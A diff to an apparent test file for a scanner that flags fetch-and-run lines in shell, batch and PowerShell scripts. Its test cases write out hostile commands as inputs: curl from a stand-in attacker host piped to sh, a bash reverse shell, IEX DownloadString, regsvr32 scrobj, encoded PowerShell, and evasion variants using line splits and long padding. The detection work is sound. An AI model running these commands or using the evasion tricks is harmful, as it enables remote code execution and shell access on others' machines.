@@ -100,6 +100,11 @@ describe('shell scripts', () => {
     'echo aWQ= | base64 -d | bash',
     'curl https://evil.example/x | python3',
     'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
+    'curl https://evil.example/x \\\n  | sh',
+    'curl https://evil.example/x |\n  bash',
+    `curl https://evil.example/x${' '.repeat(30_000)}| sh`,
+    `: ${'a'.repeat(30_000)}; curl https://evil.example/x | sh`,
+    '# a comment does not go on \\\ncurl https://evil.example/x | sh',
   ])('%s', async (line) => {
     expect(await told(`#!/bin/sh\n${line}\n`, 'run.sh')).toContain('medium text.fetch-and-run');
   });
@@ -107,6 +112,7 @@ describe('shell scripts', () => {
   test.each([
     'curl -o model.bin https://huggingface.co/x',
     '# curl x | sh',
+    'curl x\n# | sh',
     'python train.py | tee log',
     'pip install torch',
   ])('%s is ordinary', async (line) => {
@@ -120,6 +126,8 @@ describe('scripts of Windows', () => {
     ['run.cmd', 'start mshta https://evil.example/x.hta'],
     ['run.ps1', 'IEX (New-Object Net.WebClient).DownloadString("https://evil.example/a")'],
     ['run.ps1', 'irm https://evil.example/a | iex'],
+    ['run.ps1', 'irm https://evil.example/a |\r\n  iex'],
+    ['run.bat', 'powershell ^\r\n  -enc SQBFAFgAIAAoAE4A'],
     ['run.bat', 'regsvr32 /s /n /u /i:https://evil.example/x.sct scrobj.dll'],
   ])('%s: %s', async (name, line) => {
     expect(await told(`${line}\r\n`, name)).toContain('medium text.fetch-and-run');
@@ -134,6 +142,20 @@ describe('scripts of Windows', () => {
   ])('%s: %s is ordinary', async (name, line) => {
     expect(await told(`${line}\r\n`, name)).not.toContain('medium text.fetch-and-run');
   });
+});
+
+test('of commands too long to be looked at in one go that is said', async () => {
+  const script = `#!/bin/sh\n: ${'a '.repeat(30_000)}\n`;
+  expect(await told(script, 'run.sh')).toEqual(['low problem.limit', 'note executable.script']);
+});
+
+test('a script whose every line fetches is told a thousand times, and how often more', async () => {
+  const script = `#!/bin/sh\n${'curl https://evil.example/x | sh\n'.repeat(1_002)}`;
+  const { facts } = await analyse(bytesSource(bytesOf(script), 'run.sh'), engine);
+  expect(facts.filter((fact) => fact.kind === 'oddity')).toHaveLength(1_000);
+  expect(facts.flatMap((fact) => (fact.kind === 'problem' ? [plain(fact.what)] : []))).toEqual([
+    '2 more cases of “fetch-and-run” are not listed.',
+  ]);
 });
 
 test('a model card says where a model comes from', async () => {
